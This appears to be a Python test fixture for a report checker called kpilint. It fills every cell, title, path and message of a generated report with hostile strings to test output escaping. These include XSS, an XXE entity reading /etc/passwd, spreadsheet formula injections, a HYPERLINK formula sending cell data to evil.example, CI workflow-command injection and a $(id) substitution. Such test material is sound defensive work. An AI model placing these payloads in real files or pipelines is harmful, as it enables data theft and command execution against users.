"""A report in which every published text, every path and every message is made to harm whoever reads it."""

from datetime import date
from functools import cache

from msgspec.structs import replace

from kpilint import profiles
from kpilint.checking import Checker
from kpilint.finding import Hit, Waiver
from kpilint.model import CELL_FIELDS, Cell, Document, Goal, Indicator, Place, Problem, Table
from kpilint.rule import rule

LONG = "很长" * 50_000
TEXTS = {
    "script": "<script>alert(1)</script>",
    "script end": "</script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "style end": "</style></textarea></title><svg/onload=alert(1)>",
    "comment": "<!-- x --> <!--",
    "cdata": "]]><x/>",
    "entity": "&xxe; &#0; &lt;b&gt; <!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
    "formula": "=cmd|' /C calc'!A0",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula line": "第一行\r\n=1+1\n-2",
    "formula wide": "＝1+1",
    "formula late": 'a";=1+1;"b',
    "link formula": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "ansi": "\x1b[31m红\x1b[2J\x1b]0;标题\x07 \x9b31m",
    "command": "%0A::error::x%0D%0A::set-output name=a::b",
    "command line": "\n::error file=a,line=1::x\r\n::stop-commands::x",
    "old command": "##[error]x ##[set-env name=PATH]x",
    "right to left": "\u202e倒\u202c \u2066x\u2069 \u200f\u061c",
    "zero width": "a\u200bb\u200dc\u2060d\ufeffe\u00adf",
    "controls": "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "separators": "a\u2028b\u2029c\x85d",
    "surrogates": "\ud800 \udfff \udcff",
    "no characters": "\ufffe\uffff\U0001ffff\ufdd0",
    "astral": "𠮷😀𝒳\U000e0041",
    "markdown link": "[点我](http://evil.example) ![图](http://evil.example/x.png) <http://evil.example>",
    "autolink": "http://evil.example www.evil.example a@evil.example @admin #12 GH-12 org/repo#3",
    "backticks": "``` `a` ~~~",
    "table": "a | b || c \\| d",
    "markdown line": "\n\n# 标题\n- 条\n> 引\n---\n    码",
    "maths": "$x^2$ $$y$$ \\(z\\) {{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "quotes": '"\' “” ‘’ \\" \\',
    "windows": "第一行\r\n第二行\r第三行",
    "sarif": "{0} {1} [x](2) {{",
    "braces": "{name} {text!r:>99999999}",
}
PATHS = (
    "云岭县/%0A::error::x,y:z\n::error::.yaml",
    "[点](http://evil.example)<b>&\"'`|$(id);@admin #12 \x1b[31m\u202etxt.yaml",
    "=cmd|' calc'!A0.xlsx",
    "\udcff\udcfe/白河市 100%.docx",
    "/data/清和县 %41?a=b#c.csv",
    "../a:b/ .yaml",
)
FACTS = {
    "severity": "error",
    "confidence": "high",
    "item": "指标科学性",
    "since": "0.1",
    "zh": "测试规则。\n只为测试。",
    "bad": [],
    "good": [],
}


@rule(
    "made/cell", grain=Cell, reads=("field", "text"), cells=CELL_FIELDS,
    message={"zh": "“{text}”有误", "en": "{text} is wrong"}, **FACTS,
)  # fmt: skip
def cell(_):
    """Finds fault with every cell."""
    yield Hit("")


@rule(
    "made/table", grain=Table, reads=("title",), message={"zh": "{title}", "en": "{title}"},
    **{**FACTS, "severity": "blocker"},
)  # fmt: skip
def table(_):
    """Finds fault with every table."""
    yield Hit("title")


@rule(
    "made/document", grain=Document, reads=("tables",), message={"zh": "{path}", "en": "{path}"},
    **{**FACTS, "severity": "warning", "confidence": "low"},
)  # fmt: skip
def document(_):
    """Finds fault with every document."""
    yield Hit("tables")


@rule(
    "made/crash", grain=Table, reads=("project",), message={"zh": "{project}", "en": "{project}"},
    **{**FACTS, "severity": "info"},
)  # fmt: skip
def crash(view):
    """Crashes on one project with its text."""
    if view.project == TEXTS["script"]:
        raise ValueError(view.project)
    yield Hit("project")


@cache
def report():
    """Return the report: each text in each cell and in the head of a table, in documents of several formats."""
    forms = ("yaml", "text", "xlsx", "docx", "csv", "pdf")
    documents = [
        Document(path, form, tuple(_tables(form)), _problems(), TEXTS["script"] + "\x1b[0m", 2025)
        for path, form in zip(PATHS, forms, strict=True)
    ]
    documents.append(Document("\ud800.docx", "", (), _problems(), "", None))
    family = {"zh": "<b>族</b>|`", "en": "<b>family</b>|`"}
    rules = (cell, table, document, crash)
    profile = replace(profiles.load_profile("national"), rules=rules, families={"made": family})
    checker = Checker(profile)
    made = checker.report([checker.check(one, index) for index, one in enumerate(documents)])
    return replace(made, documents=tuple(map(_with_waivers, made.documents)))


def _tables(form):
    """Yield one table with a row for each text, and a small one for each text in its head."""
    rows = tuple(_row(text, _place(form, at, text)) for at, text in enumerate(TEXTS.values(), 3))
    if form == "yaml":
        rows += (_row("短", _place(form, 999, "")), Indicator(name=LONG, value=LONG, place=_place(form, 1000, "")))
    columns, parts = frozenset(CELL_FIELDS), frozenset({"project", "code", "unit", "goals"})
    yield Table(title="甲", project="甲", indicators=rows, columns=columns, parts=parts, place=_place(form, 1, "甲"))
    for text in TEXTS.values() if form in {"yaml", "docx"} else list(TEXTS.values())[:3]:
        yield Table(
            text, text, text, text, text, 2025, goals=(Goal(text),), indicators=(_row("短", _place(form, 2, text)),),
            columns=columns, parts=parts, place=_place(form, 2, text),
        )  # fmt: skip


def _row(text, place):
    return Indicator(text, text, text, text, text, text, place=place)


def _place(form, line, text):
    if form == "xlsx":
        return Place(anchor=f"{text}!C{line}")
    if form in {"docx", "pdf"}:
        return Place(line, 2, text, table=1, page=int(form == "pdf"))
    return Place(line, 5 if form == "yaml" else 0)


def _problems():
    return tuple(
        Problem("input/unreadable", Place(anchor=text), {"reason": text, "reason_zh": text}) for text in TEXTS.values()
    )


def _with_waivers(one):
    return replace(one, tables=tuple(map(_waived, one.tables)))


def _waived(one):
    """Return a table with its second and fourth finding excused, and the fifth in the baseline."""
    if len(one.findings) < 5:
        return one
    reasons = list(TEXTS.values())
    waived = {at: Waiver(reasons[at * one.index % len(reasons)], PATHS[at % 2], Place(7, 3)) for at in (1, 3)}
    waived[3] = replace(waived[3], until=date(2026, 12, 31))
    return replace(one, waived=waived, known=frozenset({4}), excused=one.score)
